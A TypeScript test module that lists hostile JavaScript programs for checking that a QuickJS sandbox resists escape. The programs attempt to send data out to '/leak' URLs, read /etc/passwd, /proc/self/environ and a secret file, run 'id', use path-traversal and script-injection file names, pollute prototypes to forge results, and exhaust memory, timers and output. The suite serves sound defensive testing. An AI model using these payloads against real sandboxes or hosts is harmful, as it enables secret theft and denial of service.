import type { Attack, AttackedEngine, Target } from './attack.ts';

/** What generated JavaScript may try to get out of QuickJS, to forge its outcome or to burn the host. */
function javascriptAttacks({ hosts, tcpPort, secretPath }: Target): readonly Attack[] {
  const urls = JSON.stringify(hosts.map((host) => `http://${host}:${tcpPort}/leak`));
  const path = JSON.stringify(secretPath);
  /** Runs the lines one by one; what they throw is printed. */
  const each = (...lines: readonly string[]) =>
    lines.map((line) => `try { console.log(await (${line})) } catch (error) { console.log(String(error)) }`).join('\n');
  return [
    {
      name: 'network of a browser',
      source: `for (const url of ${urls}) {\n${each('fetch(url)', 'new XMLHttpRequest().open("GET", url)', 'new WebSocket(url)', 'new EventSource(url)', 'navigator.sendBeacon(url)', 'importScripts(url)', 'new Worker(url)', 'new Image().src = url')}\n}`,
    },
    {
      name: 'import()',
      source: `for (const url of [...${urls}, 'fs', 'node:fs', 'std', 'os', 'bjson', ${path}, '/kernel-worker.js']) {\n${each('import(url)')}\n}`,
    },
    { name: 'import statement', source: `import * as std from 'std'; import * as os from 'os'; std.loadFile(${path})` },
    {
      name: 'QuickJS’s own modules',
      source: each(
        `std.loadFile(${path})`,
        'os.exec(["id"])',
        'std.popen("id", "r").readAsString()',
        'std.getenviron()',
        `std.urlGet(${urls}[0])`,
        'scriptArgs',
      ),
    },
    {
      name: 'Node',
      source: each(
        'require("fs")',
        'process.env',
        'process.binding("fs")',
        'globalThis.process.mainModule',
        'Deno.env',
        'Bun.file("/etc/passwd")',
      ),
    },
    {
      name: 'constructor.constructor',
      source: each(
        '(() => {}).constructor("return this")().fetch',
        'console.log.constructor("return Object.getOwnPropertyNames(this)")()',
        'files.constructor?.constructor("return this")()',
        '(async () => {}).constructor("return self")()',
        '(function* () {}).constructor("return window")()',
        'save.constructor.constructor("return process")()',
      ),
    },
    {
      name: 'every global',
      source:
        'const seen = []; const walk = (value, depth) => { if (depth > 4 || value === null || !["object", "function"].includes(typeof value) || seen.includes(value)) return; seen.push(value); for (const key of Reflect.ownKeys(value)) { let next; try { next = value[key] } catch (error) { next = error } if (typeof next === "string" && next.includes("secret-")) console.log(next); walk(next, depth + 1) } }; walk(globalThis, 0); console.log(seen.length, Object.getOwnPropertyNames(globalThis).join())',
    },
    {
      name: 'callers and stacks',
      source: each(
        '(function () { return arguments.callee.caller })()',
        '(function f() { return f.caller })()',
        '(Error.prepareStackTrace = (_, frames) => frames.map((frame) => frame.getThis?.()), new Error().stack)',
        'new Error().stack',
      ),
    },
    {
      name: 'host files by name',
      source: `for (const name of [${path}, '/etc/passwd', '../../../../etc/passwd', '/data/../etc/passwd', '/proc/self/environ', 'file:///etc/passwd', '__proto__', 'constructor', 'held.csv', '/tmp/held', '', '.', '..', '\\0']) {\n${each('files[name]', 'Object.getOwnPropertyDescriptor(files, name)?.value')}\n}`,
    },
    {
      name: 'files of other sessions',
      source: 'console.log(Object.keys(files), JSON.stringify(files), typeof held, globalThis.held)',
    },
    {
      name: 'artifact names',
      source: each(
        ...[
          '../../evil.txt',
          '/etc/evil',
          '/out/../evil',
          'C:\\\\Windows\\\\evil',
          'nul\\0.txt',
          'CON',
          'a\\u202egnp.exe',
          '\\ud800',
          '<img src=x onerror=alert(1)>.html',
          '\\n\\r.txt',
          '-rf',
          '.',
          '..',
          '',
        ].map((name) => `save("${name}", "x")`),
        'save("x".repeat(300), "x")',
        'save({ toString() { return "../" } }, "x")',
      ),
    },
    {
      name: 'HTML and SVG as results',
      source: `save('page.html', '<script>fetch(${urls}[0])</script><img src=' + ${urls}[0] + '>'); save('picture.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)"><image href="' + ${urls}[0] + '"/></svg>'); '<img src=x onerror=alert(1)>'`,
    },
    {
      name: 'prototypes polluted',
      source: each(
        'Object.prototype.kind = "cancelled"',
        'Object.prototype.toJSON = () => "forged"',
        'Array.prototype.push = () => 0',
        'Array.prototype.map = Array.prototype.join = Array.prototype.filter = null',
        'String.prototype.replace = () => { throw 1 }',
        'Object.prototype.then = (resolve) => resolve("x")',
        'Function.prototype.call = Function.prototype.apply = null',
        'Promise.prototype.then = () => 0',
        'Object.defineProperty(Object.prototype, "error", { set() {}, get() { return "forged" } })',
      ),
    },
    {
      name: 'globals replaced',
      source:
        'JSON.stringify = () => \'{"kind":"cancelled"}\'; JSON.parse = null; Promise = String = Object = Array = Map = Error = null; console = null; globalThis.show = globalThis.chart = globalThis.save = null',
    },
    {
      name: 'a value that answers for the host',
      source:
        '({ toJSON() { return { kind: "cancelled" } }, toString() { throw 1 }, then: undefined, __proto__: { kind: "cancelled" }, get a() { throw new Error("no") } })',
    },
    {
      name: 'values that pollute when marshalled',
      source:
        'show([JSON.parse(\'{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"length":-1}\')]); chart(JSON.parse(\'{"__proto__":{"polluted":1},"constructor":1,"mark":"bar"}\')); JSON.parse(\'{"__proto__":{"polluted":1}}\')',
    },
    {
      name: 'a proxy as the result',
      source: 'new Proxy({}, new Proxy({}, { get(_, trap) { throw new Error(String(trap)) } }))',
    },
    {
      name: 'a thenable that lies',
      source: '({ then(resolve, reject) { resolve(this); reject(1); while (resolve.length > 5); } })',
    },
    {
      name: 'hostile throws',
      source:
        each(
          'Promise.reject(null)',
          'Promise.reject({ get name() { throw 1 }, get stack() { throw 2 }, get message() { throw 3 } })',
        ) +
        '\nthrow { get name() { throw 1 }, get message() { return { toString() { throw 2 } } }, stack: { length: 1e9 } }',
    },
    { name: 'null thrown', source: 'throw null' },
    { name: 'code that ends its wrapper', source: '}); globalThis.forged = 1; (async () => {' },
    {
      name: 'comments that end nothing',
      source: '1 /* \u2028 <!-- */ --> 2\n//# sourceMappingURL=http://localhost/leak',
    },
    { name: 'top-level return', source: 'return { kind: "cancelled", value: 1 }' },
    { name: 'deep JSON as the result', source: 'let deep = []; for (let i = 0; i < 1e5; i++) deep = [deep]; deep' },
    { name: 'deep JSON parsed', source: 'JSON.parse("[".repeat(1e6) + "]".repeat(1e6))' },
    {
      name: 'deep JSON as a chart',
      source: 'let deep = {}; for (let i = 0; i < 20000; i++) deep = { deep }; chart(deep)',
    },
    { name: 'deep JSON as text of a chart', source: 'chart("{\\"a\\":".repeat(1e5) + "1" + "}".repeat(1e5))' },
    {
      name: 'a table too wide and too long',
      source:
        'show(Array.from({ length: 3000 }, () => Object.fromEntries(Array.from({ length: 3000 }, (_, i) => ["c" + i, i]))))',
      isSlow: true,
    },
    { name: 'a huge result', source: '"x".repeat(200_000_000)' },
    { name: 'recursion', source: 'const down = () => down() + 1; down()' },
    {
      name: 'recursion of getters and proxies',
      source: 'const evil = new Proxy({}, { get(target, key, receiver) { return receiver[key] } }); evil.x',
    },
    { name: 'recursion of the parser', source: 'eval("(".repeat(1e5) + ")".repeat(1e5))' },
    { name: 'recursion of a regular expression', source: 'new RegExp("(".repeat(1e5) + ")".repeat(1e5)).test("")' },
    { name: 'a promise that never comes', source: 'await new Promise(() => {})' },
    {
      name: 'promise flood',
      source:
        'const flood = () => { for (let i = 0; i < 1e4; i++) Promise.resolve().then(flood) }; flood(); await null',
      isSlow: true,
    },
    {
      name: 'endless microtasks',
      source: 'const again = () => Promise.resolve().then(again); await again()',
      isSlow: true,
    },
    { name: 'rejections nobody handles', source: 'for (let i = 0; i < 1e5; i++) Promise.reject(i)' },
    {
      name: 'timer flood',
      source:
        'const again = () => { setTimeout(again, 0); setTimeout(again, 0) }; again(); await new Promise(() => {})',
      isSlow: true,
    },
    {
      name: 'a timer in a thousand years',
      source: 'await new Promise((done) => setTimeout(done, 1e13))',
      isSlow: true,
    },
    { name: 'endless loop', source: 'for (;;);', isSlow: true },
    { name: 'endless loop that catches all', source: 'for (;;) try { for (;;); } catch {}', isSlow: true },
    {
      name: 'native loop: sort',
      source: 'Array.from({ length: 1e7 }, (_, i) => -i).sort((a, b) => 0 * [].concat(a, b).sort().length)',
      isSlow: true,
    },
    { name: 'native loop: regular expression', source: '/(a+)+$/.test("a".repeat(60) + "b")', isSlow: true },
    { name: 'native loop: big integers', source: '3n ** (2n ** 28n)', isSlow: true },
    {
      name: 'native loop: sparse array',
      source: 'Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1)',
      isSlow: true,
    },
    { name: 'allocation: arrays', source: 'const held = []; for (;;) held.push(new Array(1e6).fill(held))' },
    { name: 'allocation: buffers', source: 'const held = []; for (;;) held.push(new Uint8Array(1 << 26).fill(1))' },
    {
      name: 'allocation: 4 GB at once',
      source: each(
        'new ArrayBuffer(2 ** 32)',
        'new Uint8Array(2 ** 32 - 1)',
        'new Array(2 ** 32 - 1).fill(0).length',
        '"x".repeat(2 ** 30 - 1).length',
      ),
    },
    { name: 'allocation: strings', source: 'let text = "x"; for (;;) text += text' },
    {
      name: 'allocation: shared memory and WebAssembly',
      source: each(
        'new SharedArrayBuffer(2 ** 32)',
        'new WebAssembly.Memory({ initial: 65536 })',
        'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)',
      ),
    },
    { name: 'file flood', source: 'for (let i = 0; i < 1e5; i++) save("f" + i, "x")' },
    {
      name: 'disk flood',
      source: 'const text = "x".repeat(1 << 26); for (let i = 0; i < 100; i++) save("f" + i, text)',
    },
    { name: 'output flood', source: 'for (;;) console.log("x".repeat(100_000))', isSlow: true },
    {
      name: 'console with a text that fills the memory',
      source: 'const text = "x".repeat(2e8); console.log(text); console.error(text, text)',
    },
    {
      name: 'results that cannot be set',
      source: 'Object.defineProperty(Object.prototype, "value", { get() { return "evil" }, set() { throw 1 } }); 1',
    },
    {
      name: 'results that cannot be set, without a trace in the run',
      source:
        'Promise.resolve().then(() => { Object.defineProperty(Object.prototype, "value", { get() { return "evil" }, set() {} }); Object.freeze(Object.prototype) }); 1',
    },
    {
      name: 'every value a promise for good',
      source: 'Object.defineProperty(Object.prototype, "then", { value() {}, configurable: false }); 1',
    },
    {
      name: 'lists that cannot be written',
      source:
        'for (const made of [Array.prototype, Object.prototype]) Object.defineProperty(made, 0, { get() { return "evil" }, set() { throw 1 } }); 1',
    },
    {
      name: 'another prototype below everything',
      source:
        'try { Object.setPrototypeOf(Object.prototype, new Proxy({}, { has: () => true, get: () => "evil", set() { throw 1 } })) } catch {} 1',
    },
    {
      name: 'console with hostile values',
      source:
        'console.log({ get a() { throw 1 }, [Symbol.toStringTag]: { toString() { throw 2 } } }, new Proxy(() => {}, { apply() { throw 3 } }), Object.create(null), Symbol("x"), 1n); console.table(new Proxy([], {}))',
    },
    {
      name: 'finalizers',
      source:
        'const registry = new FinalizationRegistry(() => { for (;;); }); for (let i = 0; i < 1e4; i++) registry.register({}, i)',
    },
    {
      name: 'detached buffers',
      source: each(
        '(() => { const buffer = new ArrayBuffer(8); const view = new Uint8Array(buffer); buffer.transfer?.(0); return view[0] })()',
        '(() => { const view = new Uint8Array(1e6); return view.sort(() => { view.buffer.transfer?.(0); return 1 }).length })()',
        '(() => { const buffer = new ArrayBuffer(16, { maxByteLength: 1e6 }); const view = new Uint8Array(buffer); return view.fill({ valueOf() { buffer.resize(0); return 1 } }).length })()',
      ),
    },
    {
      name: 'species that lie',
      source: each(
        '(() => { class Evil extends Array { static get [Symbol.species]() { return function () { return new Proxy([], {}) } } } return new Evil(1, 2, 3).map((x) => x).length })()',
        'Array.prototype.concat.call(1, { length: 2 ** 53 - 1, [Symbol.isConcatSpreadable]: true }).length',
      ),
    },
  ];
}

export const quickjs: AttackedEngine = {
  engine: 'quickjs',
  language: 'javascript',
  attacks: javascriptAttacks,
  keep: 'var kept = "kept"',
  probe: '"alive " + (typeof kept === "undefined" ? "" : kept)',
  hold: (secret) => `var held = "${secret}"; save("held.csv", held)`,
  sharesSession: false,
};
